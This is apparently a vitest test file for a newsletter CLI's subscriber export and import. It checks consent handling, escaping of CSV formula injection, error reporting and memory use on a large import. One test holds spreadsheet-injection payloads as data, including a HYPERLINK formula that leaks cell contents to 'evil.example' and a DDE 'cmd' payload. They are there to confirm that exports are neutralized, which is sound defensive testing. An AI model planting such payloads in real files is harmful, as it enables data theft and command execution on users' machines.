import { spawn } from 'node:child_process';
import { existsSync, mkdirSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { EXIT, main } from '../../src/cli.js';
import { Store } from '../../src/store/index.js';
import { ROOT, sampleBlog } from '../helpers/cli.js';
import { captureOutput } from '../helpers/output.js';

const SECRET = 'a-subscribers-test-secret-of-32-bytes-or-more';

const io = captureOutput();

async function cli(dir: string, ...args: string[]): Promise<number> {
  return main(args, { cwd: dir, env: { FEEDLETTER_SECRET: SECRET } });
}

function subscribersOf(dir: string): { email: string; name: string | null }[] {
  const store = Store.open(path.join(dir, '.feedletter'));
  try {
    return store.listSubscribers().map((s) => ({ email: s.email, name: s.name }));
  } finally {
    store.close();
  }
}

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('subscribers export and import', () => {
  it('consent travels with the list: an unsubscribed reader stays unsubscribed through export and import; a pending one is not imported', async () => {
    const source = sampleBlog();
    const store = Store.open(path.join(source, '.feedletter'));
    const now = new Date('2026-02-01T00:00:00Z');
    store.addSubscriber('stays@example.org', 'Stays', now);
    store.addSubscriber('left@example.org', 'Left', now);
    store.removeSubscriber('left@example.org', now);
    store.close();
    io.stdout.length = 0;
    expect(await cli(source, 'subscribers', 'export')).toBe(EXIT.ok);
    const exported = io.stdout.join('');
    const target = sampleBlog({ 'list.csv': exported });
    expect(await cli(target, 'subscribers', 'import', 'list.csv')).toBe(EXIT.ok);
    const back = Store.open(path.join(target, '.feedletter'));
    try {
      expect(back.findSubscriber('stays@example.org')?.status).toBe('active');
      expect(back.findSubscriber('left@example.org')?.status).toBe('unsubscribed');
      expect(back.countSubscribers({ status: 'active' })).toBe(1);
    } finally {
      back.close();
    }
    // And a list from elsewhere with statuses of its own.
    const other = sampleBlog({ 'other.csv': 'email,status\nx@example.org,subscribed\ny@example.org,cleaned\nz@example.org,pending\nw@example.org,weird\n' });
    io.stderr.length = 0;
    expect(await cli(other, 'subscribers', 'import', 'other.csv')).toBe(EXIT.partial);
    expect(io.stderr.join('')).toMatch(/other\.csv:4: warning: status: "z@example\.org" never confirmed the subscription; not imported/);
    expect(io.stderr.join('')).toMatch(/other\.csv:5: status: unknown status "weird"/);
    const list = Store.open(path.join(other, '.feedletter'));
    try {
      expect(list.listSubscribers().map((s) => [s.email, s.status])).toEqual([
        ['x@example.org', 'active'],
        ['y@example.org', 'unsubscribed'],
      ]);
    } finally {
      list.close();
    }
  });

  it('an export carries no formula, and imports into a fresh state folder as the same subscribers', async () => {
    const list = [
      'email,name',
      'a@example.org,"=HYPERLINK(""https://evil.example/?""&A1,""Click"")"',
      `b@example.org,"+cmd|' /C calc'!A0"`,
      'c@example.org,-2+3',
      'd@example.org,@SUM(1+1)*cmd',
      "e@example.org,''=quote marks of its own",
      "f@example.org,O'Brien",
      '=1+1@example.org,Formula Address',
      '-dash@example.org,',
      'g@example.org,＝１＋１',
    ].join('\r\n');
    const first = sampleBlog({ 'list.csv': list });
    expect(await cli(first, 'subscribers', 'import', 'list.csv'), io.stderr.join('')).toBe(EXIT.ok);
    io.stdout.length = 0;
    expect(await cli(first, 'subscribers', 'export')).toBe(EXIT.ok);
    const csv = io.stdout.join('');
    const cells = parseCsv(csv) as string[][];
    expect(cells).toHaveLength(10);
    for (const row of cells) for (const cell of row) expect(FORMULA_STARTS, JSON.stringify(cell)).not.toContain(cell[0]);
    expect(cells.map((row) => row[1])).toContain(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(cells.map((row) => row[0])).toContain("'=1+1@example.org");

    const second = sampleBlog({ 'export.csv': csv });
    expect(await cli(second, 'subscribers', 'import', 'export.csv'), io.stderr.join('')).toBe(EXIT.ok);
    expect(subscribersOf(second)).toEqual(subscribersOf(first));
    // one ' before a formula character is taken off on the way in, whoever wrote the file
    expect(subscribersOf(first)).toContainEqual({ email: 'e@example.org', name: "'=quote marks of its own" });
    expect(subscribersOf(second)).toContainEqual({ email: 'e@example.org', name: "'=quote marks of its own" });
    expect(subscribersOf(second)).toContainEqual({ email: 'a@example.org', name: '=HYPERLINK("https://evil.example/?"&A1,"Click")' });
  });

  it('reports an over-long name with its line under "name" and adds the rest', async () => {
    const dir = sampleBlog({ 'list.csv': `email,name\na@example.org,A\nb@example.org,${'n'.repeat(101)}\nc@example.org,C\n` });
    expect(await cli(dir, 'subscribers', 'import', 'list.csv')).toBe(EXIT.partial);
    expect(io.stderr.join('')).toMatch(/list\.csv:3.*name/);
    expect(io.stdout.join('')).toMatch(/2 added, 0 already there, 1 rows with errors/);
    expect(subscribersOf(dir).map((s) => s.email)).toEqual(['a@example.org', 'c@example.org']);
  });

  it('a file that cannot be read is bad input (65), and no state folder is made for it', async () => {
    const dir = sampleBlog();
    expect(await cli(dir, 'subscribers', 'import', 'missing.csv')).toBe(EXIT.input);
    expect(io.stderr.join('')).toMatch(/missing\.csv: cannot read the file/);
    expect(existsSync(path.join(dir, '.feedletter'))).toBe(false);
    mkdirSync(path.join(dir, 'folder.csv'));
    io.stderr.length = 0;
    expect(await cli(dir, 'subscribers', 'import', 'folder.csv')).toBe(EXIT.input);
    expect(io.stderr.join('')).toMatch(/folder\.csv: cannot read the file/);
  });

  it('export --help and import --help say what the quote mark is for', async () => {
    await cli(sampleBlog(), 'subscribers', 'export', '--help');
    expect(io.stdout.join('')).toMatch(/=, \+, -, @, a tab or a CR[\s\S]*' in front[\s\S]*formula/);
    io.stdout.length = 0;
    await cli(sampleBlog(), 'subscribers', 'import', '--help');
    expect(io.stdout.join('')).toMatch(/One ' in front[\s\S]*removed/);
  });
});

const TSX = pathToFileURL(path.join(ROOT, 'node_modules/tsx/dist/loader.mjs')).href;
const REPORT_RSS = pathToFileURL(path.join(import.meta.dirname, 'fixtures/report-max-rss.mjs')).href;

/** `feedletter subscribers import FILE` as a child process; its peak RSS in MB as it printed it. */
function importChild(dir: string, file: string): Promise<{ code: number | null; stdout: string; stderr: string; maxRssMb: number }> {
  const child = spawn(process.execPath, ['--import', TSX, '--import', REPORT_RSS, path.join(ROOT, 'src/cli.ts'), 'subscribers', 'import', file], {
    cwd: dir,
    env: { PATH: process.env.PATH ?? '', FEEDLETTER_SECRET: SECRET },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let out = '';
  let err = '';
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
  const timer = setTimeout(() => child.kill('SIGKILL'), 240_000);
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      const kb = /maxRSS (\d+)/.exec(err)?.[1];
      resolve({ code, stdout: out, stderr: err, maxRssMb: kb === undefined ? Number.NaN : Number(kb) / 1024 });
    });
  });
}

describe('subscribers import of 100,000 rows', () => {
  // A guard, not a benchmark. Reading the whole file, parsing it into an array and adding one
  // transaction per row, this import peaked at 227 MB (132 MB over the same command on an empty
  // list, 95 MB); streamed and batched it peaks near 150 MB (about 55 MB over the empty list,
  // most of it garbage V8 has not collected yet, and the set of addresses seen).
  it('streams: the process grows by less than 90 MB over an empty import, and every row and bad line is accounted for', async () => {
    const rows = 100_000;
    const lines = ['email,name'];
    for (let i = 0; i < rows; i++) {
      if (i === 50_000) lines.push('not-an-address,Bad');
      else if (i === 70_000) lines.push('USER1@example.org,Repeated');
      else lines.push(`user${i}@example.org,"${i % 7 === 0 ? '=' : ''}Reader ${i}, Esq."`);
    }
    const dir = sampleBlog({ 'big.csv': `${lines.join('\r\n')}\r\n`, 'empty.csv': 'email,name\r\n' });

    const floor = await importChild(dir, 'empty.csv');
    expect(floor.code, floor.stderr).toBe(EXIT.ok);
    const big = await importChild(dir, 'big.csv');
    expect(big.code, big.stderr).toBe(EXIT.partial);
    expect(big.stdout).toMatch(/imported: 99998 added, 0 already there, 2 rows with errors/);
    // header on line 1: the row of i is on line i + 2
    expect(big.stderr).toMatch(/big\.csv:50002: .*"not-an-address"/);
    expect(big.stderr).toMatch(/big\.csv:70002: .*appears more than once/);

    const store = Store.open(path.join(dir, '.feedletter'));
    try {
      expect(store.countSubscribers()).toBe(99_998);
      expect(store.findSubscriber('user7@example.org')?.name).toBe('=Reader 7, Esq.');
    } finally {
      store.close();
    }
    expect(Number.isFinite(big.maxRssMb) && Number.isFinite(floor.maxRssMb), big.stderr).toBe(true);
    const growth = big.maxRssMb - floor.maxRssMb;
    expect(growth, `peak RSS ${big.maxRssMb.toFixed(0)} MB, ${floor.maxRssMb.toFixed(0)} MB for an empty list`).toBeLessThan(90);
  }, 300_000);
});
